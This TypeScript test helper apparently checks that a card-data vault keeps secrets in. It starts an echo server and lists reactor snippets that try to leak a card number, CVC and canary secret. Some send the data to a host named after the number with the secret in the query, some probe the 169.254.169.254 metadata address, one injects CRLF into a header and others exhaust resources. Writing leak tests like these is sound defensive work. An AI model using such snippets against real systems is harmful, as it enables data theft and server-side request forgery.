import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { certificateAuthority } from '../../packages/vault/src/egress/testing/certificates.ts';
import { startDestination } from '../../packages/vault/src/egress/testing/destinations.ts';
import { dataFolder, initVault, makeApplication, serveVault, type VaultProcess } from '../processes/vault-process.ts';
import { search, searchCodes } from './search.ts';
import { cardNumbers, cvcOf, marker } from './secrets.ts';

export const [number = ''] = cardNumbers;
export const secret = 'sk_canary_quince_orchard';

/**
 * Code that leaks a number `n`, the data `d` of its card and a secret `k` in every way there is, but for giving it back, and the status that
 * its caller gets; `at` is where an acquirer listens.
 */
export const leaks = (at: string): [name: string, status: number, body: string][] => [
  [
    'writes it to the console',
    200,
    "console.log(n, [...n].join(' '), btoa(n), [...n].reverse().join(''), d.cvc, k, { d }, [...n].map((c) => 'zero one two three'.split(' ')[c] ?? c))",
  ],
  ['throws it', 500, 'throw new Error(n + k)'],
  ['throws it as it is', 500, 'throw n'],
  ['throws it as a name', 500, "throw Object.assign(new Error('x'), { name: n, status: 500 })"],
  ['throws it in a typed error', 400, "throw new BadRequestError(['card', n, 'code', d.cvc, 'of', k].join(' '))"],
  ['throws it as a property of a typed error', 400, 'throw new BadRequestError({ [n]: [n, k] })'],
  [
    'throws it with separators',
    402,
    "throw new InvalidPaymentMethodError(n.replace(/(.{4})(?=.)/g, '$1 ') + ' / ' + n.match(/.{1,4}/g).join('-'))",
  ],
  [
    'throws what the acquirer echoes',
    402,
    `const r = await fetch('${at}/402', { method: 'POST', body: n }); throw Object.assign(new Error(await r.text()), { status: r.status })`,
  ],
  ['asks a host that is named after it', 500, "await fetch('https://' + n + '.invalid/' + n + '?k=' + k)"],
  ['asks an address with it', 500, "await fetch('https://169.254.169.254/' + n)"],
  ['asks something that is no URL', 500, 'await fetch(n)'],
  ['sends a header that is none', 500, `await fetch('${at}/200', { headers: { [n]: n + '\\r\\n' + k } })`],
  ['gives back what is no JSON', 500, 'return { n, big: 10n }'],
  ['gives back too much', 500, 'return n.repeat(100_000)'],
  ['makes a token that cannot be', 422, 'return { tokenize: { type: n, data: n } }'],
  ['makes a card that cannot be', 422, "return { tokenize: { type: 'card', data: { number: n + '1', cvc: n } } }"],
  ['never ends', 500, 'globalThis.n = n; await new Promise(() => {})'],
  ['is out of memory', 500, 'const a = []; for (;;) a.push(n.repeat(1e5) + a.length)'],
];

export interface World {
  folder: ReturnType<typeof dataFolder>;
  vault: VaultProcess;
  metrics: string;
  key: string;
  management: string;
  at: string;
  close(): Promise<void>;
}

/** A vault, with an acquirer that repeats what it is sent. `imports` are loaded into the vault before its own modules. */
export const openWorld = async (imports: readonly string[] = []): Promise<World> => {
  const authority = certificateAuthority();
  const acquirer = await startDestination(
    async (request, response) => {
      const chunks: Buffer[] = [];
      for await (const chunk of request) chunks.push(chunk as Buffer);
      response.writeHead(Number(request.url?.slice(1)) || 200).end(Buffer.concat(chunks));
    },
    authority.issue(['localhost']),
  );
  const folder = dataFolder();
  const ca = join(folder.path, '..', `canary-${process.pid}.pem`);
  writeFileSync(ca, authority.cert);
  const { key: management } = await initVault(folder.path);
  const flags = [
    '--allowed-destinations',
    `localhost:${acquirer.port},localhost:1`,
    '--elements-rate',
    '1000',
    '--egress-ca',
    ca,
    '--reactor-processes',
    '2',
  ];
  const vault = await serveVault(folder.path, imports, ['--metrics-port', '0', ...flags]);
  const [, metrics = ''] = /"metrics_url":"([^"]+)"/.exec(vault.output().toString()) ?? [];
  const permissions = ['token:pci:create', 'token:pci:use:reactor'];
  return {
    folder,
    vault,
    metrics,
    management,
    key: await makeApplication(vault, management, 'server_to_server', permissions),
    at: `https://localhost:${acquirer.port}`,
    close: async () => {
      await acquirer.close();
      folder.remove();
    },
  };
};

export const call = async ({ vault }: World, key: string, path: string, body: unknown) => {
  const headers = { 'bt-api-key': key, 'content-type': 'application/json' };
  const response = await fetch(vault.origin + path, { method: 'POST', headers, body: JSON.stringify(body) });
  return { status: response.status, text: await response.text() };
};

/** The places of a text where something is that nobody may see. */
export const found = (place: string, text: string | Buffer) => {
  const bytes = Buffer.from(text);
  return [...search(place, bytes, [number, secret, marker]), ...searchCodes(place, bytes, [cvcOf(number)])];
};
